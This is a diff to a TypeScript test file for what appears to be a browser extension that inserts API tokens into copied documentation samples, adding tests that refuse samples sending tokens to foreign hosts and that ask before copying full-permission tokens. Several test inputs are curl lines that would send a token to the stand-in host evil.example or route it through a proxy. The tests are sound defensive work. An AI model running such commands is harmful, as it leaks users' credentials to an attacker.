@@ -14,8 +14,14 @@ vi.mock('../../../../lib/clipboard/clipboard.ts', async () => {
   };
 });
 
-import { copySample, offerTokens } from '../../../../lib/actions/docs/copy-sample.ts';
-import { chooseProfile, copyWaitingSample } from '../../../../lib/actions/docs/docs-windows.ts';
+import { copySample, copyTokenAlone, offerTokens } from '../../../../lib/actions/docs/copy-sample.ts';
+import {
+  copyPending,
+  openCopyAs,
+  openCopyWindow,
+  pendingCopy,
+  previewCopy,
+} from '../../../../lib/actions/docs/copy-window.ts';
 import { assertNotTooOften } from '../../../../lib/actions/docs/rate-limit.ts';
 import { copyActiveToken, copyToken, recordTokenCopy } from '../../../../lib/actions/tokens/copy.ts';
 import { clearIfStillThere } from '../../../../lib/clipboard/clear-later.ts';
@@ -146,7 +152,6 @@ describe('copySample', () => {
   const sample = (change: Partial<DocsSample>): DocsSample => ({
     profileKey: acme().profileKey,
     text: 'new Account({ token: "YOUR-TOKEN" }).devices.list()',
-    places: [[22, 32]],
     method: null,
     what: 'placeholders',
     ...change,
@@ -160,32 +165,44 @@ describe('copySample', () => {
     expect(clipboard.text).toBe(`new Account({ token: "${tokens().write}" }).devices.create({})`);
   });
 
-  it('refuses places that are none, in whole or in part, and texts that are no sample', async () => {
+  it('refuses texts that are no sample', async () => {
     for (const change of [
-      { places: [] },
-      { places: [[0, 3]] },
-      { places: [[22, 31]] },
-      {
-        places: [
-          [22, 32],
-          [40, 44],
-        ],
-      },
-      { text: 'curl https://evil.example/?token=HERE', places: [[33, 37]] },
+      { text: 'new Account({ token })' },
       { what: 'complete' },
-      { what: 'complete', text: 'curl https://evil.example/', places: [] },
+      { what: 'complete', text: 'curl' },
       { what: 'anything' },
       { text: 5 },
-      { text: `"your-profile-token"${' '.repeat(100_001)}`, places: [[1, 19]] },
+      { text: `"your-profile-token"${' '.repeat(100_001)}` },
     ] as Partial<DocsSample>[]) {
       expect(
         await failureOf(copySample({ ...sample(change), token: null })),
         JSON.stringify(change).slice(0, 80),
-      ).toMatchObject({
-        code: 'invalid-input',
-      });
+      ).toMatchObject({ code: expect.stringMatching(/^(invalid-input|unclear-destination)$/) });
     }
     expect(clipboard.text).toBe('before');
+  });
+
+  it('refuses to send a token elsewhere, and names where', async () => {
+    const listed = sandbox.requests.count({ route: '/profile/:id/token' });
+    const curl = "curl -L 'https://evil.example/device' \\\n-H 'Accept: application/json'";
+    for (const [change, code, detail] of [
+      [
+        { text: 'curl -H "token: <your-profile-token>" https://evil.example' },
+        'foreign-destination',
+        'evil.example',
+      ],
+      [{ what: 'complete', text: curl }, 'foreign-destination', 'evil.example'],
+      [
+        { text: 'curl -x evil -H "token: <your-profile-token>" https://api.us-e1.tago.io' },
+        'unclear-destination',
+        '-x',
+      ],
+    ] as const) {
+      expect(await failureOf(copySample({ ...sample(change), token: null }))).toEqual({ code, detail });
+    }
+    expect(clipboard.text).toBe('before');
+    // Not even asked for.
+    expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
   });
 
   it('copies nothing when another profile is active than the button named', async () => {
@@ -212,17 +229,89 @@ describe('copySample', () => {
     expect(offered.map(({ name }) => name).filter((name) => name.startsWith('Profiles for'))).toEqual([]);
   });
 
-  it('keeps one sample for a profile to be chosen, once', async () => {
+  it('copies the token alone of the profile that was named', async () => {
+    const { profileKey } = acme();
+    expect(await copyTokenAlone({ profileKey })).toMatchObject({ tokenName: 'Dashboard export' });
+    expect(clipboard.text).toBe(tokens().read);
+  });
+
+  describe('in the copy window', () => {
     const opened: unknown[] = [];
-    Object.assign(fakeBrowser.windows, { create: async (window: unknown) => opened.push(window) });
-    await chooseProfile(sample({}));
-    expect(opened).toEqual([expect.objectContaining({ type: 'popup' })]);
-    await copyWaitingSample(ines.ref('Greenhouse Iberia'));
-    const [token] = /p-[\w-]+/.exec(clipboard.text) ?? [];
-    expect(sandbox.state.tokens.find((one) => one.token === token)?.profile).toBe(
-      ines.id('Greenhouse Iberia'),
-    );
-    expect(await failureOf(copyWaitingSample(ines.ref('Demo')))).toMatchObject({ code: 'not-found' });
+    const closed: number[] = [];
+    beforeEach(() => {
+      opened.length = 0;
+      closed.length = 0;
+      Object.assign(fakeBrowser.windows, {
+        create: async (window: unknown) => ({ id: opened.push(window) }),
+        remove: async (id: number) => void closed.push(id),
+      });
+    });
+    const ask = (reason: 'confirm' | 'other-profile' | 'formats', change: Partial<DocsSample> | null = {}) =>
+      openCopyWindow({
+        profileKey: acme().profileKey,
+        sample: change && sample(change),
+        token: null,
+        reason,
+      });
+    const choice = { token: null, format: null, fullAccepted: false };
+
+    it('keeps one sample for a profile to be chosen, and copies it once', async () => {
+      await ask('other-profile');
+      expect(opened).toEqual([expect.objectContaining({ type: 'popup' })]);
+      expect(await pendingCopy()).toEqual({ kind: 'sample', profile: null, token: null });
+      await copyPending({ ...ines.ref('Greenhouse Iberia'), ...choice });
+      const [token] = /p-[\w-]+/.exec(clipboard.text) ?? [];
+      expect(sandbox.state.tokens.find((one) => one.token === token)?.profile).toBe(
+        ines.id('Greenhouse Iberia'),
+      );
+      expect(await failureOf(copyPending({ ...ines.ref('Demo'), ...choice }))).toMatchObject({
+        code: 'not-found',
+      });
+    });
+
+    it('says before the copy which token goes where, and closes the window of the copy before', async () => {
+      await ask('confirm');
+      await ask('confirm', { method: 'DELETE' });
+      expect(closed).toEqual([1]);
+      expect(await pendingCopy()).toEqual({ kind: 'sample', profile: acme(), token: null });
+      const shown = await previewCopy({ ...acme(), format: null });
+      expect(shown).toMatchObject({ hosts: [new URL(sandbox.origin).host], formats: [] });
+      expect(shown.tokens.find(({ isDefault }) => isDefault)).toMatchObject({ name: 'Field gateway' });
+      expect(JSON.stringify(shown)).not.toMatch(/p-[0-9a-f]{8}-/);
+    });
+
+    it('refuses there what is refused on the page', async () => {
+      const text = 'curl -H "token: <your-profile-token>" https://evil.example';
+      expect(await failureOf(ask('confirm', { text }))).toMatchObject({ code: 'foreign-destination' });
+      expect(opened).toEqual([]);
+    });
+
+    it('copies a configuration with the read-only token, and asks before one that may do everything', async () => {
+      await openCopyAs({ ...acme(), token: null });
+      const { formats, hosts } = await previewCopy({ ...acme(), format: 'curl' });
+      expect(formats).toContain('sdk-python');
+      expect(hosts).toEqual([new URL(sandbox.origin).host]);
+      const wanted = { ...acme(), ...choice, format: 'header' as const };
+      expect(await copyPending(wanted)).toMatchObject({ tokenName: 'Dashboard export', permission: 'read' });
+      expect(clipboard.text).toBe(`token: ${tokens().read}`);
+      expect((await readJournal({ limit: 1 }))[0]).toMatchObject({ what: 'token-copied' });
+
+      const full = sandbox.state.tokens.find(({ token }) => token === tokens().full)!;
+      await openCopyAs({ ...acme(), token: idOf(full) });
+      const withFull = { ...wanted, token: idOf(full) };
+      expect(await failureOf(copyPending(withFull))).toEqual({ code: 'full-token' });
+      expect(clipboard.text).toBe(`token: ${tokens().read}`);
+      await copyPending({ ...withFull, fullAccepted: true });
+      expect(clipboard.text).toBe(`token: ${tokens().full}`);
+    });
+
+    it('copies a configuration without a secret without asking for one', async () => {
+      await openCopyAs({ ...acme(), token: null });
+      const listed = sandbox.requests.count({ route: '/profile/:id/token' });
+      await copyPending({ ...acme(), ...choice, format: 'cli-config' });
+      expect(JSON.parse(clipboard.text)['acme-farms']).toMatchObject({ email: ines.account.email });
+      expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
+    });
   });
 });
 
